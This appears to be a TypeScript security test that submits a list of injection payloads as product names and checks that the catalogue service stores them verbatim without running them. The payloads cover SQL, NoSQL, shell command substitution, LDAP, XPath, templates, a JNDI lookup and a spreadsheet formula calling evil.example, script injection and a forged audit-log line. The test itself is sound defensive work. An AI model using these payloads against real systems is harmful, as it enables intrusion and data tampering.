import { existsSync, rmSync } from 'node:fs';
import { type Attack, defineAttack } from '../attack';
import { watched } from '../scene/aftermath';
import type { Scene } from '../scene/scene';
import { TEA } from './body';

interface LegalText {
  readonly name: string;
  readonly text: string;
  readonly standards: readonly string[];
}

const INJECTION = 'OWASP A03:2021';

/** File that a shell would make. */
const OWNED = '/tmp/palisade-owned';

/** One for each interpreter that OWASP names, and for those of this system. */
const LEGAL_TEXTS: readonly LegalText[] = [
  { name: 'SQL', text: "Tea'; DROP TABLE products; -- ' OR '1'='1", standards: [INJECTION, 'CWE-89'] },
  { name: 'a query of a document database', text: '{"$gt":""}', standards: [INJECTION, 'CWE-943'] },
  {
    name: 'an expression of DynamoDB',
    text: 'attribute_exists(#id) OR :v <> :w REMOVE price',
    standards: [INJECTION, 'CWE-943'],
  },
  { name: 'PartiQL', text: "Tea' OR begins_with(\"id\", '') --", standards: [INJECTION, 'CWE-89'] },
  {
    name: 'a command of a shell',
    text: `Tea$(touch ${OWNED})\`touch ${OWNED}\`; touch ${OWNED} #`,
    standards: [INJECTION, 'CWE-78'],
  },
  { name: 'a filter of LDAP', text: '*)(uid=*))(|(uid=*', standards: [INJECTION, 'CWE-90'] },
  { name: 'XPath', text: "' or count(/*)=1 or 'a'='b", standards: [INJECTION, 'CWE-643'] },
  { name: 'a template', text: '{{7*7}}\u0024{7*7}#{7*7}<%= 7*7 %>', standards: [INJECTION, 'CWE-1336'] },
  {
    name: 'a lookup of a logger',
    text: '\u0024{jndi:ldap://evil.example/a}%n%s%x',
    standards: [INJECTION, 'CWE-917', 'CWE-134'],
  },
  {
    name: 'a script',
    text: '</script><script>alert(1)</script><img src=x onerror=alert(1)>',
    standards: [INJECTION, 'CWE-79'],
  },
  {
    name: 'a formula of a spreadsheet',
    text: '=HYPERLINK("https://evil.example")+cmd|\' /C calc\'!A0',
    standards: ['CWE-1236'],
  },
  { name: 'a policy', text: 'Tea"; permit(principal, action, resource); //', standards: [INJECTION, 'CWE-94'] },
  {
    name: 'a line of an audit log',
    text: 'Tea\n{"service_name":"payments","action":"payments:Charge","status":"allow","hash":"0"}',
    standards: ['CWE-117', 'ASVS 7.3.1'],
  },
];

/** Texts that anybody may write, and nothing may interpret. */
export const legalTexts: readonly Attack[] = LEGAL_TEXTS.map(({ name, standards, text }) =>
  defineAttack({
    name: `${name} as the name of a product`,
    category: 'input',
    has: 'an API key and a token of an administrator of the catalogue',
    action: `creates a product named ${JSON.stringify(text)}, and reads it as a customer`,
    control: 'data-only',
    standards,
    trace: {
      by: 'sight',
      reason: /^the same text came back, and nothing else has changed$/,
      because: 'the text is a legal name: to store it is right',
    },
    async attempt(scene) {
      const other = await scene.product();
      const before = await readProduct(scene, other);
      rmSync(OWNED, { force: true });
      const { events, result } = await watched(scene, () => createProduct(scene, text));
      const stored = await readProduct(scene, result.id);
      const after = await readProduct(scene, other);
      const printed = events.flatMap((event) => (event.kind === 'log' ? [event.log.text] : []));
      const forged = events.some((event) => event.kind === 'audit' && event.line['service_name'] === 'payments');
      const changes = [
        ...(result.name === text && stored.name === text ? [] : [`the name became ${stored.name}`]),
        ...(before.text === after.text ? [] : ['another product has changed']),
        ...(stored.type === 'application/json' && stored.sniffing === 'nosniff'
          ? []
          : ['browsers may show it as a page']),
        ...(existsSync(OWNED) ? ['a command has run'] : []),
        ...(forged || printed.some((line) => line.includes('payments:Charge')) ? ['a line of a log is forged'] : []),
      ];
      const seen = changes.join(', ') || 'the same text came back, and nothing else has changed';
      return { succeeded: changes.length > 0, status: stored.status, seen };
    },
  }),
);

async function createProduct(scene: Scene, name: string): Promise<{ readonly id: string; readonly name: string }> {
  const { text } = await scene.edge({
    method: 'POST',
    path: '/products',
    token: await scene.token(scene.administrator),
    json: { ...TEA, name },
  });
  return JSON.parse(text) as { id: string; name: string };
}

async function readProduct(scene: Scene, id: string) {
  const { headers, status, text } = await scene.edge({ path: `/products/${id}` });
  const { name } = JSON.parse(text) as { name?: string };
  return { name, status, text, type: headers['content-type'], sniffing: headers['x-content-type-options'] };
}
